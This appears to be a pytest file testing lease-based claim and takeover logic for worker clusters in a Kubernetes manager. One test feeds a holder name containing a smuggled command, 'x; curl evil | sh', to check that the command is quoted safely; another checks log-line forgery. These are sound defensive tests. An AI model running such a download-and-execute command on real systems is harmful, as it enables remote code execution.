"""The claim on a worker cluster: two managers never both write there; leaders hand it over without a pause."""

from datetime import UTC, datetime
from typing import Any

import pytest

from adapter import names
from adapter.admission import cluster_claim
from adapter.admission.cluster_claim import (
    ABANDONED_SECONDS,
    DEADLINE_SECONDS,
    HANDED_OVER_SECONDS,
    Claimant,
    ClaimConflict,
    ClaimWrite,
    Leadership,
)
from adapter.objects.unstructured import RawDict as Raw
from adapter.shell.kube.client import TIMEOUT_SECONDS

WALL = datetime(2026, 5, 1, 12, 0, 0, 250, tzinfo=UTC)
STAMP, EARLIER = "2026-05-01T12:00:00.000250Z", "2026-04-01T00:00:00.000000Z"
ME, BEFORE, OTHER = "rayspan-b_2", "rayspan-a_1", "rayspan-a_9"
WHICH = ("0123456789", "east")
NOW = 1000.0
LEAD = Leadership(ME, BEFORE, 500, 510)


def held(holder: str | None, noted: object = "400", **spec: Any) -> Raw:
    """The claim's Lease."""
    metadata = {
        "name": "rayspan-0123456789-east",
        "uid": "u1",
        "resourceVersion": "7",
        "annotations": {names.LEASE_VERSION_ANNOTATION: noted},
    }
    usual = {"leaseDurationSeconds": 60, "leaseTransitions": 3, "acquireTime": EARLIER, "renewTime": EARLIER}
    return {"metadata": metadata, "spec": {**usual, "holderIdentity": holder, **spec}}


def seen(seconds: float) -> Claimant:
    """A claimant that saw the claim change this many seconds ago."""
    return Claimant("7", NOW - seconds)


def move(
    found: Raw | None, me: Claimant | None = None, lead: Leadership = LEAD, taken_from: str = ""
) -> ClaimWrite | ClaimConflict:
    return cluster_claim.decide(me or seen(0), lead, WHICH, found, taken_from, NOW, WALL)


@pytest.mark.parametrize(
    ("found", "me", "after"),
    [
        pytest.param(None, Claimant(), 0, id="the claim never existed"),
        pytest.param(
            None, Claimant("", NOW, may_write_until=NOW + 1), 0, id="the claim is deleted while this process holds it"
        ),
        pytest.param(
            None,
            Claimant("", NOW - ABANDONED_SECONDS),
            0,
            id="the claim was deleted and its former holder is out of time",
        ),
        pytest.param(held(""), seen(0), 0, id="the claim has an empty holder"),
        pytest.param(held(None), seen(0), 0, id="the claim has no holder"),
        pytest.param({"metadata": {"uid": "u1", "resourceVersion": "7"}}, seen(0), 0, id="the claim has no spec"),
        pytest.param(held(ME), seen(0), 0, id="this process holds the claim"),
        pytest.param(held(BEFORE, "500"), seen(0), 0, id="the former leader holds the claim at the last known version"),
        pytest.param(held(BEFORE, "3"), seen(0), 0, id="the former leader holds the claim at an old version"),
        pytest.param(
            held(OTHER),
            seen(ABANDONED_SECONDS),
            0,
            id="another manager holds the claim and renews it no more",
        ),
        pytest.param(
            held(BEFORE, "501"),
            seen(ABANDONED_SECONDS),
            0,
            id="a former leader that lived on elsewhere renews the claim no more",
        ),
    ],
)
def test_a_free_or_own_claim_is_taken_or_renewed(found: Raw | None, me: Claimant, after: float) -> None:
    made = move(found, me)
    assert isinstance(made, ClaimWrite) and made.create is (found is None) and made.effective_after == after
    assert made.body["spec"]["holderIdentity"] == ME
    assert made.body["metadata"]["annotations"] == {names.LEASE_VERSION_ANNOTATION: "510"}
    if found is not None:
        assert {key: made.body["metadata"][key] for key in ("uid", "resourceVersion")} == {
            "uid": "u1",
            "resourceVersion": "7",
        }


@pytest.mark.parametrize(
    ("found", "lead"),
    [
        pytest.param(held(OTHER), LEAD, id="another manager holds the claim"),
        pytest.param(held(BEFORE, "501"), LEAD, id="the leader before the backup lived on elsewhere"),
        pytest.param(held(OTHER, "400"), LEAD, id="an earlier leader of another history"),
        pytest.param(held(BEFORE, ""), LEAD, id="the noted version is empty"),
        pytest.param(held(BEFORE, "-1"), LEAD, id="the noted version is negative"),
        pytest.param(held(BEFORE, 5), LEAD, id="the noted version is a number instead of text"),
        pytest.param(held(OTHER), Leadership(ME), id="no earlier leader is known"),
        pytest.param(
            held("", "400") | {"spec": {"holderIdentity": OTHER}},
            LEAD,
            id="the spec has a holder and nothing else",
        ),
    ],
)
def test_a_claim_of_another_manager_is_respected(found: Raw, lead: Leadership) -> None:
    assert isinstance(move(found, seen(ABANDONED_SECONDS - 0.5), lead), ClaimConflict)


def test_the_former_holder_may_recreate_a_deleted_claim_first() -> None:
    made = move(None, Claimant("", NOW - ABANDONED_SECONDS + 0.5))
    assert isinstance(made, ClaimConflict) and made.message == (
        "its claim (Lease rayspan-0123456789-east in its namespace rayspan-system) was deleted, and its holder may "
        "not know that yet; nothing is written there until no manager has created it again for 60 s"
    )


def test_the_former_holder_has_time_to_notice_a_takeover() -> None:
    made = move(held(OTHER), taken_from=OTHER)
    assert isinstance(made, ClaimWrite) and made.effective_after == HANDED_OVER_SECONDS
    assert isinstance(move(held(OTHER), taken_from=BEFORE), ClaimConflict), "that very holder, so it works once"
    me = cluster_claim.with_grant(
        cluster_claim.with_request(seen(0), made, NOW), NOW + HANDED_OVER_SECONDS - 10
    )  # renewed since
    times = (NOW, NOW + HANDED_OVER_SECONDS - 0.1, NOW + HANDED_OVER_SECONDS)
    assert [cluster_claim.may_write(me, when) for when in times] == [False, False, True]
    renewed = move(held(ME), me)
    assert isinstance(renewed, ClaimWrite)
    assert not cluster_claim.may_write(
        cluster_claim.with_grant(cluster_claim.with_request(me, renewed, NOW + 10), NOW + 10), NOW + 10
    ), "a renewal does not shorten it"


def test_the_wait_after_a_takeover_covers_the_former_holders_last_write() -> None:
    """Its renewals may fail although its writes succeed."""
    assert HANDED_OVER_SECONDS >= DEADLINE_SECONDS + TIMEOUT_SECONDS
    assert HANDED_OVER_SECONDS <= ABANDONED_SECONDS, "who waits for longer takes it without being told to"


def noted(made: ClaimWrite | ClaimConflict) -> object:
    assert isinstance(made, ClaimWrite)
    return made.body["metadata"]["annotations"].get(names.TAKEN_OVER_ANNOTATION, "-")


def as_left(holder: str) -> Raw:
    """A claim that was taken over; the new holder ended before its wait was over."""
    found = held(holder)
    found["metadata"]["annotations"][names.TAKEN_OVER_ANNOTATION] = "true"
    return found


def test_a_claim_says_that_it_was_taken_over_until_the_wait_is_over() -> None:
    assert noted(move(held(OTHER), taken_from=OTHER)) == "true"
    waiting, over = Claimant("7", NOW, may_write_from=NOW + 1), Claimant("7", NOW, may_write_from=NOW)
    assert noted(move(as_left(ME), waiting)) == "true"
    assert noted(move(as_left(ME), over)) is None
    assert noted(move(held(ME), over)) == "-"


@pytest.mark.parametrize(
    ("holder", "since", "after", "said"),
    [
        pytest.param(BEFORE, 0, HANDED_OVER_SECONDS, "true", id="a former leader of this manager took the claim over"),
        pytest.param("", 0, HANDED_OVER_SECONDS, "true", id="the claim has no holder any more"),
        pytest.param(OTHER, ABANDONED_SECONDS, 0, None, id="the claim was not renewed for longer than the wait"),
        pytest.param(ME, 0, 0, None, id="this process took the claim over and has waited"),
    ],
)
def test_a_successor_waits_for_the_holder_before_the_takeover(
    holder: str, since: float, after: float, said: object
) -> None:
    made = move(as_left(holder), seen(since))
    assert isinstance(made, ClaimWrite) and made.effective_after == after and noted(made) == said


def test_the_message_says_how_to_take_the_claim_over() -> None:
    found = move(held(OTHER))
    assert isinstance(found, ClaimConflict) and found.message == (
        "it has been held by rayspan-a_9 since 2026-04-01T00:00:00.000000Z, which may belong to a clone of this "
        "manager, or to the manager that this one was cloned from (Lease rayspan-0123456789-east in its namespace "
        "rayspan-system); nothing is written there. It is taken over if it is not renewed for 60 s; to take it over "
        "now, run: kubectl annotate workercluster east --overwrite rayspan.dev/take-over=rayspan-a_9"
    )


def test_a_write_is_allowed_until_the_deadline() -> None:
    me = cluster_claim.with_grant(seen(0), NOW)
    assert [cluster_claim.may_write(me, NOW + later) for later in (0, DEADLINE_SECONDS - 0.1, DEADLINE_SECONDS)] == [
        True,
        True,
        False,
    ]
    assert not cluster_claim.may_write(cluster_claim.without_claim(me), NOW) and not cluster_claim.may_write(
        Claimant(), NOW
    )
    assert DEADLINE_SECONDS * 1.5 <= ABANDONED_SECONDS, "one clock may run faster than another"


def test_the_age_of_a_claim_counts_from_its_last_observed_change() -> None:
    first = cluster_claim.with_observation(Claimant(), held(OTHER), NOW)
    assert (first.observed_version, first.unchanged_since) == ("7", NOW)
    assert cluster_claim.with_observation(first, held(OTHER), NOW + 50) == first
    renewed = held(OTHER)
    renewed["metadata"]["resourceVersion"] = "8"
    assert cluster_claim.with_observation(first, renewed, NOW + 50).unchanged_since == NOW + 50


@pytest.mark.parametrize(
    ("found", "acquired", "transitions"),
    [
        pytest.param(None, STAMP, 0, id="first holder"),
        pytest.param(held(ME), EARLIER, 3, id="renewal"),
        pytest.param(held(BEFORE), STAMP, 4, id="change of holder"),
        pytest.param(held("", leaseTransitions="x"), STAMP, 1, id="transitions that are no number"),
        pytest.param(held("", leaseTransitions=2**31 - 1), STAMP, 0, id="the API's maximum of transitions"),
    ],
)
def test_the_lease_shows_its_holder_and_since_when(found: Raw | None, acquired: str, transitions: int) -> None:
    made = move(found, seen(0) if found else Claimant())
    assert isinstance(made, ClaimWrite)
    spec = made.body["spec"]
    assert (spec["acquireTime"], spec["leaseTransitions"], spec["renewTime"]) == (acquired, transitions, STAMP)
    if found is None:
        assert (made.body["kind"], made.body["metadata"]["name"]) == ("Lease", "rayspan-0123456789-east")
        assert made.body["metadata"]["namespace"] == names.SYSTEM_NAMESPACE


def test_a_command_in_the_lease_is_not_quoted_for_typing() -> None:
    found = move(held("x; curl evil | sh"))
    assert isinstance(found, ClaimConflict) and found.message.endswith(" rayspan.dev/take-over='x; curl evil | sh'")


def test_the_lease_cannot_forge_a_log_line() -> None:
    found = move(held("x\nERROR all is lost" + "x" * 5000))
    assert (
        isinstance(found, ClaimConflict)
        and found.holder.isprintable()
        and "\n" not in found.message
        and len(found.holder) < 1100
    )


def test_a_released_claim_has_no_holder_and_keeps_its_annotations() -> None:
    """For example that it was taken over from a holder that may still write."""
    assert cluster_claim.release_patch(held(ME), WALL) == {
        "metadata": {"uid": "u1", "resourceVersion": "7"},
        "spec": {"holderIdentity": "", "leaseDurationSeconds": 1, "acquireTime": STAMP, "renewTime": STAMP},
    }


@pytest.mark.parametrize(
    ("answers", "want"),
    [
        pytest.param("", False, id="an account that was not denied the claim may hold it"),
        pytest.param("d", False, id="a first denial may pass"),
        pytest.param("d" * 6, False, id="denials for less than a minute may pass"),
        pytest.param("d" * 7, True, id="denials of a minute are for good"),
        pytest.param("d" + " " * 5 + "d", False, id="two denials a minute apart are too few"),
        pytest.param("d" + "s" * 5 + "d", False, id="silence does not count"),
        pytest.param("dddsddd", False, id="the time in silence does not count"),
        pytest.param("dddsddddd", True, id="denials before and after silence count"),
        pytest.param("dddoddd", False, id="another answer ends the denials"),
        pytest.param("dddgddd", False, id="a granted claim ends the denials"),
    ],
)
def test_when_denials_are_for_good(answers: str, want: bool) -> None:
    """Every ten seconds: a denial, silence, a grant, another answer, or no request."""
    me = Claimant()
    for tens, answer in enumerate(answers):
        me = {
            "d": cluster_claim.with_denial(me, NOW + tens * 10),
            "s": cluster_claim.with_silence(me),
            "g": cluster_claim.with_grant(me, NOW + tens * 10),
            "o": cluster_claim.without_denial(me),
            " ": me,
        }[answer]
    assert cluster_claim.is_denied_for_good(me) is want
